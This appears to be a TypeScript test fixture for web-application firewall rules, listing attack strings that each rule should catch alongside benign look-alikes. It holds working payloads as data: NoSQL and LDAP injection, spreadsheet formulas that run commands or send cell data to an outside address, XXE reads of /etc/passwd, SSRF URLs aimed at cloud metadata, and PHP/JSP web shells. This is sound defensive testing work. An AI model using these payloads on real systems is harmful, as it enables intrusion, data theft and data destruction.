import { at, type CaseTable, cookie, file, form, json, multipart, query, send, xml } from "./support.ts";

export const nosqlCases: CaseTable = {
  "wc-nosql-operator-name": {
    matches: [at("/login?user[$ne]=x&pass[$gt]="), send("application/x-www-form-urlencoded", "a[$regex]=.*")],
    passes: [at("/?price[gt]=5"), at("/?filter[$id]=5"), "$ne", json({ variables: { $in: 1 } })],
  },
  "wc-nosql-script": {
    matches: [
      '{"$where": "sleep(100)"}',
      "' || this.password.match(/a/) || '",
      json({ $where: "1" }),
      "';return true;var a='",
    ],
    passes: ["$where are you", "this is a match", "a || b", json({ where: "1" })],
  },
  "wc-nosql-operator-value": {
    matches: ['{"$ne": null}', json({ username: { $ne: null } }), json({ user: { password: { $gt: "" } } })],
    passes: ['{"ne": 1}', json({ price: { $gt: 5 } }), json({ filter: { $in: [1] } })],
  },
  "wc-nosql-credential": {
    matches: [json({ password: { $ne: null } }), json({ user: { reset_token: { $regex: "^a" } } })],
    passes: [json({ password: "$ne" }), json({ price: { $ne: 1 } }), json({ passwords: { count: 1 } })],
  },
  "wc-nosql-operator": {
    matches: [json({ price: { $gt: 5 } }), json({ $or: [{ a: 1 }] })],
    passes: [json({ variables: { $in: 1 } }), json({ $schema: "x", $ref: "y" }), json({ a: "$gt" })],
  },
  "wc-nosql-operators": {
    matches: [
      json({ a: { $ne: 1 }, b: { $nin: [2] } }),
      json({ username: { $ne: null }, password: { $ne: null } }),
    ],
    passes: [json({ a: { $ne: 1 } }), json({ a: 1, b: "$ne $gt" })],
  },
};

export const injectionCases: CaseTable = {
  "wc-injection-prototype": {
    matches: [
      at("/?__proto__[x]=1"),
      json({ constructor: { prototype: { a: 1 } } }),
      send("application/json", '{"__proto__":{"a":1}}'),
    ],
    passes: ["proto", "__prototype", "constructor of prototypes", json({ constructor: "Acme" })],
  },
  "wc-injection-formula-command": {
    matches: [
      "=cmd|' /C calc'!A0",
      form("@SUM(1+1)*cmd|'/c dir'!B1"),
      file("a.csv", "n,t\n1,=cmd|'/c x'!C1"),
    ],
    passes: ["=Excel|'[Book1.xls]Sheet1'!R1C1", "=SUM(A1:A9)", "cmd|'/c dir'!B1"],
  },
  "wc-injection-formula-request": {
    matches: [
      '=HYPERLINK("http://203.0.113.9/?l="&A1,"x")',
      '=IMPORTXML(CONCAT("http://a.example/",A2),"//a")',
    ],
    passes: ['=HYPERLINK("https://a.example/5","Item")', '=IMPORTXML("https://a.example/","//a")'],
  },
  "wc-injection-server-directive": {
    matches: ['<!--#exec cmd="id"-->', "<!-- #include virtual='/x' -->", "<esi:include src=http://e/>"],
    passes: ["<!-- comment -->", "#include <stdio.h>", "<!-- # heading -->"],
  },
  "wc-injection-ldap": {
    matches: ["*)(uid=*))(|(uid=*", "admin)(&)", "x)(|(cn=*)", "*)(objectClass=*"],
    passes: ["(a) (b)", "smile :) (really)", "f(x)", "1) first 2) second", "(&(cn=a)(sn=b))"],
  },
  "wc-injection-ldap-probe": {
    matches: ["&(*)|", form("(*)&|!")],
    passes: ["(*)", "a*(b|c)&d", ":-)"],
  },
  "wc-nosql-graph-clause": {
    matches: ["x'}) RETURN n //", form("a'}) DETACH DELETE m //")],
    passes: ["don't (ever) return it", "MATCH (n) RETURN n", form("it's a match (of two)")],
  },
  "wc-nosql-command": {
    matches: ["k\r\nFLUSHALL\r\n", cookie("*1\r\n$8\r\nflushall\r\n")],
    passes: ["FLUSHALL", "a\nset of b", form("k\r\nFLUSHALL\r\n")],
  },
  "wc-injection-mail-command": {
    matches: ["x\r\nA1 LOGOUT\r\n", form("9\nV100 FETCH 1")],
    passes: ["A1 LOGOUT", form("rows\nA1 total"), "x\nlist of things"],
  },
  "wc-injection-response-splitting": {
    matches: [
      at("/?u=x%0d%0aSet-Cookie:%20a=1"),
      at("/x%0aLocation:%20http://e/"),
      cookie("a\r\nHTTP/1.1 200 OK"),
    ],
    passes: [at("/?u=line1%0d%0aline2"), query("notes\nhours: 9-5"), form("a\r\nLocation: Berlin")],
  },
  "wc-injection-xpath": {
    matches: ["' or count(//*)=1 or '", "x'] | //user/*", "' and string-length(name(/*))=4"],
    passes: ["' or ", "a/b//c", "count(1) or position", "https://a.example//b"],
  },
  "wc-injection-mail-header": {
    matches: [
      "a@a.example\nBcc: b@b.example",
      form("Hello\r\nTo: c@c.example"),
      "x%0aRCPT TO: <a@b.example>\nrcpt to:<a@b.example>",
    ],
    passes: [form("From: A\nTo: b@b.example\nSubject: x"), "bcc: who?", form("Dear all,\nto: everyone")],
  },
};

const DOCTYPE = '<?xml version="1.0"?><!DOCTYPE r';

export const xxeCases: CaseTable = {
  "wc-xxe-external-entity": {
    matches: [
      xml(`${DOCTYPE} [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`),
      file("a.svg", `${DOCTYPE} [<!ENTITY % p PUBLIC "a" "http://e/x">]><svg/>`),
      '<!DOCTYPE r [<!ENTITY x SYSTEM "http://e/">]>',
    ],
    passes: [xml("<r>&amp;</r>"), xml(`${DOCTYPE} [<!ENTITY copy "©">]><r>&copy;</r>`), "entity system"],
  },
  "wc-xxe-external-dtd": {
    matches: [
      xml(`${DOCTYPE} SYSTEM "http://e.example/x.dtd"><r/>`),
      xml(`${DOCTYPE} PUBLIC "a" "file:///x"><r/>`),
      ...[
        "/x.dtd",
        "../x.php",
        "http://www.w3.org.e.example/x.dtd",
        "http://www.w3.org@e.example/",
        "http:/www.w3.org/x",
        "ftp://www.w3.org/x",
      ].map((id) => xml(`${DOCTYPE} SYSTEM "${id}"><r/>`)),
      ...["http://10.0.0.1/x.dtd", "http://localhost:8080/x", "https://[::1]/x", "http://0x7f000001/"].map(
        (id) => xml(`${DOCTYPE} PUBLIC "-//A//DTD B//EN" "${id}"><r/>`),
      ),
    ],
    passes: [
      xml(
        '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
      ),
      xml("<!DOCTYPE html><html/>"),
      xml('<!DOCTYPE html SYSTEM "about:legacy-compat"><html/>'),
      xml('<!DOCTYPE cXML SYSTEM "http://xml.cXML.org/schemas/cXML/1.2.014/cXML.dtd"><cXML/>'),
      xml("<!DOCTYPE NewsML SYSTEM 'http://www.iptc.org/std/NewsML/1.2/NewsML_1.2.dtd'><NewsML/>"),
      xml('<!DOCTYPE svg SYSTEM "https://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>'),
      xml(`${DOCTYPE} SYSTEM "x.dtd"><r/>`),
      xml(`${DOCTYPE} SYSTEM "urn:x:r.dtd"><r/>`),
    ],
  },
  "wc-xxe-entity-expansion": {
    matches: [xml(`${DOCTYPE} [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]><r/>`), form('<!ENTITY c "&b; &b;">')],
    passes: [xml(`${DOCTYPE} [<!ENTITY b "&a; and more">]><r/>`), xml("<r>&a;&a;</r>")],
  },
  "wc-xxe-parameter-entity": {
    matches: [
      xml(`${DOCTYPE} [<!ENTITY % a "x"> %a; ]><r/>`),
      xml(`${DOCTYPE} [ <!ENTITY % d SYSTEM "x">%d;]><r/>`),
    ],
    passes: [xml(`${DOCTYPE} [<!ENTITY a "50%">]><r/>`), xml("<r>100%;</r>")],
  },
  "wc-xxe-inclusion": {
    matches: [
      xml(
        '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></r>',
      ),
      xml("<xsl:value-of select=\"document('/etc/passwd')\"/>"),
    ],
    passes: [
      xml('<r xmlns:x="http://www.w3.org/1999/xhtml"><x:include/></r>'),
      xml('<xsl:value-of select="name"/>'),
    ],
  },
  "wc-xxe-schema-location": {
    matches: [
      xml(
        '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://h.example/"/>',
      ),
      form('<a xsi:schemaLocation="ftp://h.example/a.xsd"/>'),
    ],
    passes: [
      xml(
        '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:a http://a.example/a.xsd"/>',
      ),
      "schemaLocation",
    ],
  },
  "wc-xxe-wide-encoding": {
    matches: [
      send(
        "application/xml",
        Uint8Array.from([...'<!DOCTYPE r [<!ENTITY x "y">]>'].flatMap((char) => [char.charCodeAt(0), 0])),
      ),
      xml('<?xml version="1.0" encoding="utf-7"?><r/>'),
    ],
    passes: [xml('<?xml version="1.0" encoding="UTF-8"?><r/>'), xml("<!DOCTYPE html>")],
  },
};

export const ssrfCases: CaseTable = {
  "wc-ssrf-cloud-metadata": {
    matches: [
      "http://169.254.169.254/latest/meta-data/",
      "http://metadata.google.internal/computeMetadata/v1/",
      json({ url: "http://2852039166/" }),
      "http://[::ffff:a9fe:a9fe]/",
    ],
    passes: [
      "http://169.254.1.1/",
      "metadata of pictures",
      "https://a.example/latest/news",
      "1169.254.169.2541",
    ],
  },
  "wc-ssrf-scheme": {
    matches: [
      "gopher://127.0.0.1:6379/_x",
      "dict://localhost:11211/",
      json({ url: "ldap://e.example/x" }),
      "jar:http://e.example/a!/",
    ],
    passes: ["https://a.example/", "mailto:a@a.example", "the gopher: an animal", "dict: a: 1", "app://open"],
  },
  "wc-ssrf-file-scheme": {
    matches: ["file:///etc/hosts", "file://localhost/x", cookie("file:/x")],
    passes: ["file: report.pdf", "profile://x", json({ source: "file:///src/a.ts" })],
  },
  "wc-ssrf-odd-loopback": {
    matches: [
      "http://2130706433/",
      "http://0x7f000001/",
      "http://127.1/",
      "http://[::ffff:127.0.0.1]/",
      "https://localtest.me/",
    ],
    passes: ["http://127.0.0.1:3000/", "http://localhost/", "https://0.example/", "http://1271.example/"],
  },
  "wc-ssrf-odd-address": {
    matches: ["http://167772161/", "https://0xc0.0xa8.1.1/", json({ url: "http://[::ffff:10.0.0.1]/" })],
    passes: ["http://10.0.0.1/", "167772161", "http://203.0.113.7/", "https://0xc0.example/"],
  },
  "wc-ssrf-authority": {
    matches: [
      "http://a.example@127.0.0.1/",
      form("http://10.0.0.1#@a.example/"),
      "http://127.0.0.1\\@a.example/",
    ],
    passes: ["http://user:secret@localhost/", "http://a.example/@127.0.0.1", "me@127.0.0.1"],
  },
  "wc-ssrf-internal-port": {
    matches: ["http://localhost:6379/", json({ url: "http://10.0.0.2:2375/images/json" })],
    passes: ["http://localhost:3000/", "http://a.example:6379/", "localhost:6379"],
  },
  "wc-ssrf-metadata-mention": {
    matches: ["curl http://169.254.169.254/latest/", form("see http://metadata.google.internal/x there")],
    passes: [
      "http://169.254.169.254/",
      "curl http://203.0.113.7/",
      form("the metadata of http://a.example/"),
    ],
  },
  "wc-ssrf-resolver-name": {
    matches: ["http://a.10.0.0.1.nip.io/", json({ url: "https://192-168-1-1.sslip.io/" })],
    passes: ["a.10.0.0.1.nip.io", "https://nip.io.example/", "http://127.0.0.1.nip.io/"],
  },
  "wc-ssrf-loopback": {
    matches: ["http://localhost/admin", "http://127.0.0.1:8080/"],
    passes: ["localhost", "http://localhost.example/", "https://a.example/?u=localhost"],
  },
  "wc-ssrf-private-network": {
    matches: ["http://10.0.0.5/", "https://192.168.1.1/admin"],
    passes: ["10.0.0.5", "http://11.0.0.5/", "http://172.32.0.1/"],
  },
};

export const uploadCases: CaseTable = {
  "wc-upload-server-script": {
    matches: [file("a.php"), file("x.PHTML"), file("shell.jsp"), file("a.aspx.")],
    passes: [file("a.css"), file("app.min.js"), file("report.final.v2.pdf"), file("php.txt")],
  },
  "wc-upload-double-extension": {
    matches: [file("a.php.jpg"), file("a.asp;.png"), file("a.jsp%00.gif")],
    passes: [file("a.b.jpg"), file("photo.jpg"), file("php.jpg")],
  },
  "wc-upload-name-traversal": {
    matches: [file("../../a.txt"), file("..%2fa.txt"), file("/etc/cron.d/x")],
    passes: [file("a..b.txt"), file("...txt"), file("C:fakepath.txt")],
  },
  "wc-upload-server-settings": {
    matches: [file(".htaccess"), file("web.config"), file(".user.ini")],
    passes: [file("htaccess.txt"), file("config.web"), file("settings.ini")],
  },
  "wc-upload-web-shell": {
    matches: [
      file("a.png", "GIF89a<?php eval($_POST['x']); ?>"),
      file("a.txt", '<% Runtime.getRuntime().exec(request.getParameter("c")) %>'),
      multipart([
        'Content-Disposition: form-data; name="f"; filename="a.txt"',
        "Content-Type: text/plain",
        "Content-Transfer-Encoding: base64",
        "",
        Buffer.from("<?php system($_GET[1]);").toString("base64"),
      ]),
    ],
    passes: [
      file("a.js", "export function system(name) { return eval(name); }"),
      file("a.css", "body { color: red }"),
      multipart(['Content-Disposition: form-data; name="t"', "", "$_POST explained"]),
    ],
  },
  "wc-upload-code-in-image": {
    matches: [file("a.gif", "GIF89a;<?php echo 1;"), file("a.bmp", "BM<?=1?>")],
    passes: [
      file("a.gif", "GIF89a;"),
      file("a.xml", '<?xml version="1.0"?>'),
      file("a.md", "Use <?php to begin"),
    ],
  },
  "wc-upload-script-file": {
    matches: [file("a.sh"), file("setup.exe")],
    passes: [file("a.txt"), file("sh.pdf")],
  },
};
